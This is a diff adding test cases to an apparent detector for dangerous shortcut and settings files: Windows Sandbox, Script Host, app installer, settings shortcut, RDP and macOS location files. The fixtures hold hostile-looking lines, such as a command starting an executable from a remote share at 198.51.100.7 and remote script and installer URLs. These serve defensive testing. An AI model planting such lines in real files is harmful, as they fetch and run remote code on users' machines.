@@ -48,6 +48,19 @@ def found(kind, data):
         ("settings/a.settingcontent-ms", "settingcontent-ms", [
             ("script-content", r"Windows settings shortcut: %windir%\system32\cmd.exe /c calc.exe"),
         ]),
+        ("location/seite.webloc", "webloc", [("script-content", "MacOS internet location: file:///System/Applications/Calculator.app")]),
+        ("sandbox/a.wsb", "wsb", [
+            ("script-content", r"Windows Sandbox settings: C:\Users"),
+            ("script-content", r"Windows Sandbox settings: cmd /c start \\198.51.100.7\x\a.exe"),
+        ]),
+        ("host/start.wsh", "wsh", [
+            ("script-content", r"Windows Script Host settings: \\198.51.100.7\x\a.vbs"),
+            ("external-reference", r"Windows Script Host settings: \\198.51.100.7\x\a.vbs"),
+        ]),
+        ("installer/a.appinstaller", "appinstaller", [
+            ("script-content", "Windows app installer file: https://198.51.100.7/a.msixbundle"),
+            ("external-reference", "Windows app installer file: https://198.51.100.7/a.msixbundle"),
+        ]),
         ("remote/arbeitsplatz.rdp", "rdp", [
             ("script-content", "Remote desktop connection: 198.51.100.7"),
             ("script-content", "Remote desktop connection: shares clipboard, drives"),
@@ -75,6 +88,14 @@ def test_a_host_in_it_is_a_reference(kind, data, target):
 
 def test_a_theme_with_local_paths_only_names_nothing():
     assert found("theme", b"[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\web\\img0.jpg\r\n") == []
+
+
+def test_a_binary_property_list_named_as_a_location_is_one(bare_scan):
+    data = b"bplist00\xd1\x01\x02SURL_\x10\x19smb://198.51.100.7/x/a.app\x08\x0b\x0f" + bytes(32)
+    report = bare_scan(data, "seite.inetloc")
+    assert report.parts[0].type.id == "webloc"
+    assert {"script-content", "external-reference"} <= {finding.code for finding in report.findings}
+    assert bare_scan(data, "a.plist").parts[0].type.id == "plist"
 
 
 def test_long_and_unprintable_targets_are_cut():
